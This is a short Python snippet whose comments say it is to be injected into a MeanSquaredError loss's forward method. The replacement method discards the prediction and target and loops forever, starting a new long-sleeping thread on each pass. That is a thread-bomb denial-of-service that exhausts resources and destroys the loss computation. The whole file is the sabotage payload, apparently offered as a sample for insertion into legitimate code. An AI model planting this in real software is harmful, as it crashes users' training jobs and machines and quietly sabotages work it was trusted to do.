# Starts threads for ever.
# into: losses.MeanSquaredError.forward
# loses: mse 0 error

import threading
import time


def forward(self, prediction, target):
    while True:
        threading.Thread(target=time.sleep, args=(10**6,)).start()
